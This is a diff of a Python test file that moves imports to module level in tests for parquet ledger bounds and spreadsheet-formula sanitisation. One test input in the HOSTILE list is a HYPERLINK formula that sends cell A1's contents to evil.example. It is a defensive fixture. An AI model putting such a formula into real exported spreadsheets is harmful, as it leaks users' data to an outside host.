@@ -12,12 +12,15 @@ import io
 import re
 import time
 
+import pyarrow as pa
+import pyarrow.parquet as pq
 import pytest
 from reliability import reliability
 from reliability_fixtures import draft_args, hf_setup, write_ledger
 
-from checks.io import FORMULA_START
+from checks.io import FORMULA_START, csv_text, spreadsheet_safe, spreadsheet_value
 from checks.testing import run_cli
+from hfmigrate_checks.source import ledger
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -43,8 +46,6 @@ HOSTILE = [
     "at a peak RSS of 133 MiB",
 )
 def test_parquet_ledgers_are_bounded(tmp_path, kind):
-    import pyarrow as pa
-    import pyarrow.parquet as pq
 
     path = tmp_path / "board.parquet"
     if kind == "rows":
@@ -65,10 +66,6 @@ def test_parquet_ledgers_are_bounded(tmp_path, kind):
 
 
 def test_a_parquet_ledger_within_its_bounds_imports(tmp_path):
-    import pyarrow as pa
-    import pyarrow.parquet as pq
-
-    from hfmigrate_checks.source import ledger
 
     path = tmp_path / "board.parquet"
     pq.write_table(pa.table({"model": ["org/m", "org/n"], "Main": [41.2, 40.0]}), path)
@@ -89,7 +86,6 @@ def _cells(text: str) -> list[str]:
     "autolink is made",
 )
 def test_formulas_and_markup_are_inert_in_the_bundle(tmp_path):
-    from hfmigrate_checks.source import ledger
 
     with hf_setup(tmp_path, models=2) as (env, _hub):
         write_ledger(tmp_path / "ledger.csv", models=2, base=50.0)
@@ -130,7 +126,6 @@ def test_formulas_and_markup_are_inert_in_the_bundle(tmp_path):
 
 
 def test_numbers_and_plain_text_are_left_alone():
-    from checks.io import csv_text, spreadsheet_safe, spreadsheet_value
 
     for text in ("41.2", "-0.5", "+3", "1e-3", "Alpha 7B", "org/model", ""):
         assert spreadsheet_safe(text) == text
